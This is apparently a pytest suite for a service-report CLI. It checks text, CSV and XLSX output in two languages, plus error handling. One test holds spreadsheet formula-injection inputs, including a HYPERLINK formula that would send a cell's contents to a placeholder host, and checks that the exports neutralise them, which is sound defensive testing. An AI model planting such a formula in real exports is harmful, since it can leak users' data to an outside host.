"""``fieldbot report`` against a real database (SQLite file; PostgreSQL in CI): the text on stdout,
the CSV and XLSX files read back with the right numbers and headers in the chosen language, and
one-line errors with exit code 2 for bad months, unknown teams and unwritable files."""

from __future__ import annotations

import asyncio
import csv
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from models.db import Database
from models.enums import ServiceType
from tests.support.cli import cli_runner
from tests.support.history import engineer, job, utc


async def _seed(db_url: str) -> None:
    """October 2026: three North jobs and one South job counted, one North job incomplete."""
    db = Database(db_url)
    try:
        li, wang = await engineer(db, "Li Lei", "North"), await engineer(db, "Wang Fang", "North")
        sun = await engineer(db, "Sun Qi", "South")
        await job(db, li, model="X200", fault="power", created=utc(10, 5, 1), resolved=utc(10, 5, 5),
                  signed=utc(10, 5, 6), ratings=(5,))
        await job(db, li, model="X200", fault="power", created=utc(10, 10), resolved=utc(10, 10, 10),
                  signed=utc(10, 11), arrivals=2, paused=timedelta(hours=2), late=True,
                  ratings=(2, 4), complaints=1)
        await job(db, wang, model="Z9", fault=None, created=utc(10, 20), resolved=utc(10, 20, 1),
                  signed=utc(10, 21), service=ServiceType.PHONE, arrivals=0, ratings=(4,))
        await job(db, wang, model="Z9", fault="display", created=utc(10, 22), resolved=utc(10, 22, 1),
                  signed=utc(10, 22, 2), findings="")
        await job(db, sun, model="Q1", fault="power", created=utc(10, 9), resolved=utc(10, 9, 3),
                  signed=utc(10, 9, 4), team="South", ratings=(1,))
    finally:
        await db.dispose()


@pytest.fixture
def cli(db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]):  # noqa: ANN201
    run = cli_runner(db_url, tmp_path, capsys)
    asyncio.run(_seed(db_url))
    return run


def test_csv_of_every_team_in_english(cli, tmp_path: Path) -> None:  # noqa: ANN001
    out_csv = tmp_path / "october.csv"
    code, out, err = cli("report", "--month", "2026-10", "--csv", str(out_csv))
    assert (code, err) == (0, "")
    lines = out.splitlines()
    assert lines[0] == "Service report for October 2026 · all teams"
    assert lines[1] == ("Completed jobs with a full report: 4 · average handling time 4.0 h · first-visit fix 67% · "
                        "SLA met 75% · satisfaction 3.2/5 · complaints 1")
    assert "3. Wang Fang: jobs 1 · handling 1.0 h · first-visit fix — · SLA met 100% · satisfaction 4.0/5 · " \
           "complaints 0" in lines
    assert not any("chart" in line for line in lines)
    assert lines[-3:] == ["Jobs left out because their service report is incomplete: 1.",
                          "A month runs from midnight on the 1st to midnight after its last day, Beijing time (UTC+8).",
                          f"Written: {out_csv}"]  # the month's bounds are the team's midnights
    assert out_csv.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads the BOM as UTF-8
    with open(out_csv, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [
        ["Breakdown", "Name", "Jobs", "Average handling time (h)", "First-visit fix (%)", "SLA met (%)",
         "Average satisfaction (1-5)", "Ratings", "Complaints"],
        ["Total", "Total", "4", "4.0", "66.7", "75.0", "3.2", "5", "1"],
        ["Product model", "X200", "2", "6.0", "50.0", "50.0", "3.67", "3", "1"],
        ["Product model", "Q1", "1", "3.0", "100.0", "100.0", "1.0", "1", "0"],
        ["Product model", "Z9", "1", "1.0", "", "100.0", "4.0", "1", "0"],
        ["Fault type", "power", "3", "5.0", "66.7", "66.7", "3.0", "4", "1"],
        ["Fault type", "(no fault type)", "1", "1.0", "", "100.0", "4.0", "1", "0"],
        ["Engineer", "Li Lei", "2", "6.0", "50.0", "50.0", "3.67", "3", "1"],
        ["Engineer", "Sun Qi", "1", "3.0", "100.0", "100.0", "1.0", "1", "0"],
        ["Engineer", "Wang Fang", "1", "1.0", "", "100.0", "4.0", "1", "0"],
    ]


def test_xlsx_of_one_team_in_chinese(cli, tmp_path: Path) -> None:  # noqa: ANN001
    out_xlsx = tmp_path / "十月.xlsx"
    code, out, err = cli("--lang", "zh-CN", "report", "--month", "2026-10", "--team", "North",
                         "--xlsx", str(out_xlsx))
    assert (code, err) == (0, "")
    assert out.splitlines()[0] == "2026年10月服务报表 · North"
    assert out.splitlines()[-1] == f"已写入：{out_xlsx}"
    book = load_workbook(out_xlsx)
    assert book.sheetnames == ["合计", "产品型号", "故障类型", "工程师"]
    header = ["统计维度", "名称", "工单数", "平均处理时长（小时）", "一次上门解决率（%）", "SLA 达标率（%）",
              "平均满意度（1-5）", "评分次数", "投诉次数"]
    values = {name: [list(r) for r in book[name].iter_rows(values_only=True)] for name in book.sheetnames}
    assert values["合计"] == [header, ["合计", "合计", 3, 4.33, 50.0, 66.7, 3.75, 4, 1]]
    assert values["故障类型"] == [header, ["故障类型", "power", 2, 6.0, 50.0, 50.0, 3.67, 3, 1],
                              ["故障类型", "（未填故障类型）", 1, 1.0, None, 100.0, 4.0, 1, 0]]
    assert [row[1:3] for row in values["工程师"][1:]] == [["Li Lei", 2], ["Wang Fang", 1]]


@pytest.mark.parametrize(("args", "message"), [
    (["report", "--month", "2026-13"], 'fieldbot: error: "2026-13" is not a month; write YYYY-MM, e.g. 2026-10\n'),
    (["report", "--month", "abc"], 'fieldbot: error: "abc" is not a month; write YYYY-MM, e.g. 2026-10\n'),
    (["--lang", "zh-CN", "report", "--month", "abc"], "fieldbot：错误：“abc”不是有效的月份；请按 年-月 的格式填写，例如 2026-10\n"),
    (["report", "--month", "2026-10", "--team", "Nowhere"], 'fieldbot: error: no team called "Nowhere"\n'),
])
def test_bad_arguments_get_one_line_and_exit_2(cli, args: list[str], message: str) -> None:  # noqa: ANN001
    assert cli(*args) == (2, "", message)


def test_an_unwritable_file_is_one_line(cli, tmp_path: Path) -> None:  # noqa: ANN001
    target = tmp_path / "missing" / "out.csv"
    code, _, err = cli("report", "--month", "2026-10", "--csv", str(target))
    assert code == 2 and err.startswith(f"fieldbot: error: cannot write {target}: ") and err.count("\n") == 1
    assert not target.exists()


def test_text_from_chat_never_becomes_a_formula_in_the_exports(tmp_path: Path) -> None:
    from openpyxl import Workbook

    from bot.cli_report import _cell, _safe

    typed = ['=HYPERLINK("http://x/?"&B2,"open")', "+1", "-2", "@SUM(A1)"]
    assert [_safe(v) for v in typed] == ["'" + v for v in typed]
    assert (_safe("X200"), _safe(3), _cell(None)) == ("X200", 3, "")
    book = Workbook()
    book.active.append([_safe(v) for v in typed])
    book.save(tmp_path / "t.xlsx")
    cells = list(load_workbook(tmp_path / "t.xlsx").active.iter_rows(values_only=False))[0]
    assert [c.data_type for c in cells] == ["s"] * 4  # without _safe the first would be "f"
